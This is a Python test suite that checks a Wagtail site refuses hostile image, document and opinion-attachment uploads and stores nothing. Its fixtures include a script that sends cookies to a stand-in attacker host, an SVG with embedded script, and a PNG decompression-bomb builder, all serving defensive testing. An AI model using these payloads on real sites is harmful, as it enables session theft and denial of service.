"""Hostile uploads (issue #5): images and documents through the real Wagtail admin views, opinion attachments.

A department editor uploads through both of Wagtail's upload paths: the single 添加 form
(/admin/images/add/, /admin/documents/add/) and the multiple uploader the admin actually offers
(…/multiple/add/, answered in JSON). Every refused upload must say why in Chinese, and leave
nothing behind: no Image, Document or UploadedFile row, no file under MEDIA_ROOT, no temporary file.
The limits are in cms/settings/base.py ("Uploads") and cms/upload_forms.py.
"""
import io
import re
import struct
import zipfile
import zlib

import pytest
from django.conf import settings
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape
from PIL import Image as PILImage
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import UploadedFile

from consultations.factories import ConsultationPageFactory
from consultations.models import Opinion, OpinionAttachment

Image = get_image_model()
Document = get_document_model()
MB = 1024 * 1024
SINGLE, MULTIPLE = "single", "multiple"


# --- files -------------------------------------------------------------------------------------------
def picture(fmt="PNG", size=(40, 30), mode="RGB"):
    buffer = io.BytesIO()
    PILImage.new(mode, size, "red").save(buffer, fmt)
    return buffer.getvalue()


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def pixel_bomb(width, height):
    """A real, valid 1-bit PNG of width × height: a few kilobytes that decode to width × height pixels."""
    row = b"\x00" * (1 + (width + 7) // 8)  # filter byte + packed pixels
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row * 1000) for _ in range(height // 1000))
    data += packer.compress(row * (height % 1000)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", data) + png_chunk(b"IEND", b"")


SVG_WITH_SCRIPT = (b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
                   b'<script>fetch("/admin/users/")</script><rect width="10" height="10"/></svg>')
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200 + b"This program cannot be run in DOS mode."
HTML = "<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script>通知</body></html>".encode()
PDF = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def ooxml():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
MP4 = b"\x00\x00\x00\x20ftypisom\x00\x00\x02\x00isomiso2avc1mp41" + b"\x00" * 64
WEBM = b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01" + b"\x00" * 64


# --- driving the admin -----------------------------------------------------------------------------------
@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.FILE_UPLOAD_TEMP_DIR = tmp_path / "upload-tmp"  # uploads over 2.5 MB are spooled here
    settings.FILE_UPLOAD_TEMP_DIR.mkdir()
    return tmp_path


def files_under(path):
    return sorted(str(p.relative_to(path)) for p in path.rglob("*") if p.is_file()) if path.exists() else []


@pytest.fixture
def editor(client, users, departments, media):
    client.force_login(users["rsj_editor"])
    client.collection = departments["rsj"].collection
    return client


def upload(client, kind, how, name, content, **fields):
    """Upload through the admin; (accepted, the messages shown for the file field)."""
    file = SimpleUploadedFile(name, content)
    if how == MULTIPLE:
        response = client.post(reverse(f"{kind}:add_multiple"), {"files[]": file, "collection": client.collection.pk})
        assert response.status_code == 200, response.status_code
        data = response.json()
        return data["success"], data.get("error_message", "")
    response = client.post(reverse(f"{kind}:add"), {"title": name, "file": file, "collection": client.collection.pk,
                                                    **fields})
    if response.status_code == 302:
        return True, ""
    assert response.status_code == 200, response.status_code
    messages = response.context["form"].errors.get("file", [])
    html = response.content.decode()
    for message in messages:
        assert escape(message) in html, message  # shown next to the field, not only in the form object
    return False, "\n".join(messages)


# Words that may appear in a Chinese message: format names, extensions and the file's own name.
TECHNICAL = {"GIF", "JPG", "JPEG", "PNG", "WEBP", "PDF", "Word", "Excel", "OpenDocument", "WebVTT", "MP4", "WebM",
             *settings.WAGTAILDOCS_EXTENSIONS, *settings.WAGTAILIMAGES_EXTENSIONS, "exe", "html", "svg", "bmp", "tiff"}


def assert_refused(result, expected, name, media):
    accepted, message = result
    assert not accepted, f"{name} was accepted"
    assert expected in message, message
    english = set(re.findall(r"[A-Za-z]{3,}", message.replace(name, ""))) - TECHNICAL
    assert not english, f"untranslated words in {message!r}: {english}"
    assert message.count("\n") == 0, f"one reason, not several: {message!r}"
    assert not Image.objects.exists() and not Document.objects.exists() and not UploadedFile.objects.exists()
    assert files_under(media) == [], files_under(media)  # MEDIA_ROOT and the temporary folder are empty


# --- images ------------------------------------------------------------------------------------------------
REFUSED_IMAGES = {
    "bmp": ("扫描件.bmp", lambda: picture("BMP"), "不支持的图片格式"),
    "tiff": ("扫描件.tiff", lambda: picture("TIFF"), "不支持的图片格式"),
    "exe-as-png": ("照片.png", lambda: EXE, "请上传一张有效的图片"),
    "html-as-jpg": ("照片.jpg", lambda: HTML, "扩展名与文件格式不匹配"),  # Willow takes the markup for SVG
    "gif-as-png": ("动图.png", lambda: picture("GIF"), "扩展名与文件格式不匹配"),
    "svg-with-script": ("图解.svg", lambda: SVG_WITH_SCRIPT, "不支持的图片格式"),
    "svg-as-png": ("图解.png", lambda: SVG_WITH_SCRIPT, "扩展名与文件格式不匹配"),
    "too-large": ("大图.png", lambda: picture() + b"\x00" * settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE, "文件过大"),
    # 8000 × 8000 (64 megapixels) in ~8 KB: over WAGTAILIMAGES_MAX_IMAGE_PIXELS, under Pillow's own alarm.
    "too-many-pixels": ("海报.png", lambda: pixel_bomb(8000, 8000), "图片像素过多，上限为 50000000 像素"),
    # 30000 × 30000 (900 megapixels, ~110 MB decoded for 1 bit a pixel): Pillow's DecompressionBombError.
    "decompression-bomb": ("炸弹.png", lambda: pixel_bomb(30000, 30000), "图片像素过多"),
}


@pytest.mark.parametrize("how", [SINGLE, MULTIPLE])
@pytest.mark.parametrize("case", REFUSED_IMAGES)
def test_hostile_image_is_refused_in_chinese_and_nothing_is_stored(editor, media, case, how):
    name, content, expected = REFUSED_IMAGES[case]
    assert_refused(upload(editor, "wagtailimages", how, name, content()), expected, name, media)


@pytest.mark.parametrize("how", [SINGLE, MULTIPLE])
@pytest.mark.parametrize(("name", "fmt"), [("政策图解.png", "PNG"), ("现场照片.jpg", "JPEG"), ("动图.gif", "GIF"),
                                           ("图解.webp", "WEBP")])
def test_valid_image_is_accepted(editor, media, name, fmt, how):
    accepted, message = upload(editor, "wagtailimages", how, name, picture(fmt))
    assert accepted, message
    image = Image.objects.get()
    assert image.collection == editor.collection and (image.width, image.height) == (40, 30)
    assert (media / "media" / image.file.name).is_file()


def test_image_limits_are_set():
    assert settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE == 10 * MB
    assert settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS == 50_000_000  # below Pillow's own 89 megapixel warning
    assert PILImage.MAX_IMAGE_PIXELS is not None and settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS < PILImage.MAX_IMAGE_PIXELS
    assert "svg" not in settings.WAGTAILIMAGES_EXTENSIONS


# --- documents -------------------------------------------------------------------------------------------
REFUSED_DOCUMENTS = {
    "exe": ("安装包.exe", lambda: EXE, "不支持 .exe 文件"),
    "html": ("通知.html", lambda: HTML, "不支持 .html 文件"),
    "svg": ("图解.svg", lambda: SVG_WITH_SCRIPT, "不支持 .svg 文件"),
    "no-extension": ("通知", lambda: PDF, "不支持 .（无扩展名） 文件"),
    "html-as-pdf": ("通知.pdf", lambda: HTML, "的内容不是 PDF 文件，与扩展名不符"),
    "exe-as-docx": ("通知.docx", lambda: EXE, "的内容不是 Word（.docx） 文件"),
    "exe-as-xls": ("报表.xls", lambda: EXE, "的内容不是 Excel（.xls） 文件"),
    "html-as-txt": ("说明.txt", lambda: HTML, "的内容不是 纯文本 文件"),
    "exe-as-txt": ("说明.txt", lambda: EXE, "的内容不是 纯文本 文件"),
    "html-as-mp4": ("视频.mp4", lambda: HTML, "的内容不是 MP4 视频 文件"),
    "svg-as-vtt": ("字幕.vtt", lambda: SVG_WITH_SCRIPT, "的内容不是 WebVTT 字幕 文件"),
    "pdf-too-large": ("全文.pdf", lambda: PDF + b"\x00" * (settings.DOCUMENT_MAX_UPLOAD_MB * MB), "太大（20.0 MB）：PDF 文件不能超过 20 MB。"),
}


@pytest.mark.parametrize("how", [SINGLE, MULTIPLE])
@pytest.mark.parametrize("case", REFUSED_DOCUMENTS)
def test_hostile_document_is_refused_in_chinese_and_nothing_is_stored(editor, media, case, how):
    name, content, expected = REFUSED_DOCUMENTS[case]
    assert_refused(upload(editor, "wagtaildocs", how, name, content()), expected, name, media)


@pytest.mark.parametrize("how", [SINGLE, MULTIPLE])
def test_video_over_wagtails_limit_gets_one_clear_message(editor, media, settings, how):
    """Over WAGTAILDOCS_MAX_UPLOAD_SIZE (the video limit, checked by Wagtail's field); made small here."""
    settings.VIDEO_MAX_UPLOAD_MB = 1
    settings.WAGTAILDOCS_MAX_UPLOAD_SIZE = MB
    assert_refused(upload(editor, "wagtaildocs", how, "宣讲.mp4", MP4 + b"\x00" * MB), "文件过大", "宣讲.mp4", media)


VALID_DOCUMENTS = [("政策全文.pdf", PDF), ("起草说明.docx", ooxml()), ("补贴名单.xlsx", ooxml()), ("旧版通知.doc", OLE2),
                   ("旧版报表.xls", OLE2), ("说明.txt", "灵活就业人员参保说明（GBK 编码）".encode("gb18030")),
                   ("字幕.vtt", "\ufeffWEBVTT\n\n00:00.000 --> 00:02.000\n政策解读".encode()), ("图解视频.mp4", MP4),
                   ("图解视频.webm", WEBM), ("leading-bytes.pdf", b"\r\n" + PDF)]


@pytest.mark.parametrize("how", [SINGLE, MULTIPLE])
@pytest.mark.parametrize(("name", "content"), VALID_DOCUMENTS, ids=[name for name, _ in VALID_DOCUMENTS])
def test_valid_document_is_accepted(editor, media, name, content, how):
    accepted, message = upload(editor, "wagtaildocs", how, name, content)
    assert accepted, message
    document = Document.objects.get()
    assert document.collection == editor.collection
    assert (media / "media" / document.file.name).read_bytes() == content


def test_a_video_may_be_larger_than_other_documents(editor, media):
    size = settings.DOCUMENT_MAX_UPLOAD_MB * MB + 1
    accepted, message = upload(editor, "wagtaildocs", SINGLE, "宣讲视频.mp4", MP4 + b"\x00" * size)
    assert accepted, message
    assert Document.objects.get().file.size > settings.DOCUMENT_MAX_UPLOAD_MB * MB
    assert files_under(media / "upload-tmp") == []  # the spooled upload was removed


def test_replacing_a_document_with_a_disguised_file_keeps_the_original(editor, media):
    assert upload(editor, "wagtaildocs", SINGLE, "政策全文.pdf", PDF)[0]
    document = Document.objects.get()
    response = editor.post(reverse("wagtaildocs:edit", args=[document.pk]), {
        "title": document.title, "collection": editor.collection.pk, "file": SimpleUploadedFile("新版.pdf", HTML)})
    assert response.status_code == 200
    assert "的内容不是 PDF 文件，与扩展名不符" in response.content.decode()
    document.refresh_from_db()
    assert document.file.read() == PDF and files_under(media / "media") == [document.file.name]


def test_the_upload_form_says_the_limits_in_chinese(editor):
    html = editor.get(reverse("wagtaildocs:add")).content.decode()
    assert "视频（MP4、WebM）不超过 150 MB，其他文件不超过 20 MB" in html


def test_document_limits_fit_in_nginx_and_the_admin_views():
    from pathlib import Path

    assert settings.WAGTAILDOCS_MAX_UPLOAD_SIZE == settings.VIDEO_MAX_UPLOAD_MB * MB
    assert settings.DOCUMENT_MAX_UPLOAD_MB < settings.VIDEO_MAX_UPLOAD_MB
    nginx = (Path(__file__).resolve().parents[2] / "deploy" / "nginx.conf").read_text()
    [admin] = re.findall(r"location /admin/ \{[^}]*client_max_body_size (\d+)m;", nginx)
    assert int(admin) * MB >= settings.WAGTAILDOCS_MAX_UPLOAD_SIZE + MB  # the largest video and its form


def test_form_fields_over_the_memory_limit_are_refused_before_anything_is_stored(editor, media):
    """DATA_UPLOAD_MAX_MEMORY_SIZE bounds the fields besides the files: a huge one is a 400, nothing stored."""
    response = editor.post(reverse("wagtaildocs:add"), {
        "title": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1), "collection": editor.collection.pk,
        "file": SimpleUploadedFile("政策全文.pdf", PDF)})
    assert response.status_code == 400
    assert not Document.objects.exists() and files_under(media) == []
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= 2_621_440  # larger uploads are spooled to disk, not held in memory


# --- public opinion attachments (what tests/consultations/test_opinion_submission.py does not cover) ------
@pytest.fixture
def consultation(departments, settings, tmp_path):
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    cache.clear()  # the opinion rate limit
    page = ConsultationPageFactory(parent=departments["rsj"].policy_index, slug="yanglao")
    page.save_revision().publish()
    yield page.__class__.objects.get(pk=page.pk)
    cache.clear()


def post_opinion(client, consultation, attachments, **overrides):
    html = client.get(consultation.url).content.decode()
    token = html.split('name="token" value="', 1)[1].split('"', 1)[0]
    data = {"category": "养老服务", "clause": "2", "text": "建议把居家养老服务补贴的发放对象扩大到七十五岁以上独居老人。",
            "name": "张三丰", "phone": "13912345678", "email": "", "consent": "on", "token": token, "website": "",
            "attachments": attachments, **overrides}
    return client.post(consultation.url, data)


def assert_opinion_refused(response, expected, settings):
    assert response.status_code == 400
    assert expected in response.content.decode()
    assert not Opinion.objects.exists() and not OpinionAttachment.objects.exists()
    assert files_under(settings.PRIVATE_MEDIA_ROOT) == []


REFUSED_ATTACHMENTS = {
    "too-large": (lambda: [SimpleUploadedFile("证明.pdf", PDF + b"\x00" * (settings.OPINION_ATTACHMENT_MAX_MB * MB))],
                  "附件“证明.pdf”超过 5 MB。"),
    "too-many": (lambda: [SimpleUploadedFile(f"证明{i}.pdf", PDF) for i in range(settings.OPINION_ATTACHMENT_MAX_FILES + 1)],
                 "附件最多 3 个。"),
    "svg": (lambda: [SimpleUploadedFile("图.svg", SVG_WITH_SCRIPT)], "附件“图.svg”的类型不支持，只能上传 PDF、PNG 或 JPG。"),
    "svg-as-png": (lambda: [SimpleUploadedFile("图.png", SVG_WITH_SCRIPT)], "附件“图.png”的内容与扩展名不符"),
    "html-as-jpg": (lambda: [SimpleUploadedFile("图.jpg", HTML)], "附件“图.jpg”的内容与扩展名不符"),
    "one-bad-of-two": (lambda: [SimpleUploadedFile("证明.pdf", PDF), SimpleUploadedFile("run.pdf", EXE)],
                       "附件“run.pdf”的内容与扩展名不符"),
}


@pytest.mark.parametrize("case", REFUSED_ATTACHMENTS)
def test_hostile_opinion_attachment_is_refused_and_nothing_is_kept(client, consultation, settings, case):
    files, expected = REFUSED_ATTACHMENTS[case]
    assert_opinion_refused(post_opinion(client, consultation, files()), expected, settings)


def test_valid_attachments_of_a_refused_opinion_are_not_kept(client, consultation, settings):
    files = [SimpleUploadedFile("证明.pdf", PDF), SimpleUploadedFile("照片.png", picture())]
    assert_opinion_refused(post_opinion(client, consultation, files, text="太短"), "意见内容至少 10 个字", settings)


def test_attachments_at_the_limits_are_kept_privately(client, consultation, settings):
    size = settings.OPINION_ATTACHMENT_MAX_MB * MB
    files = [SimpleUploadedFile("证明.pdf", PDF + b"\x00" * (size - len(PDF))), SimpleUploadedFile("照片.png", picture()),
             SimpleUploadedFile("扫描.jpg", picture("JPEG"))]
    assert post_opinion(client, consultation, files).status_code == 200
    assert sorted(OpinionAttachment.objects.values_list("original_name", flat=True)) == ["扫描.jpg", "照片.png", "证明.pdf"]
    assert len(files_under(settings.PRIVATE_MEDIA_ROOT)) == 3
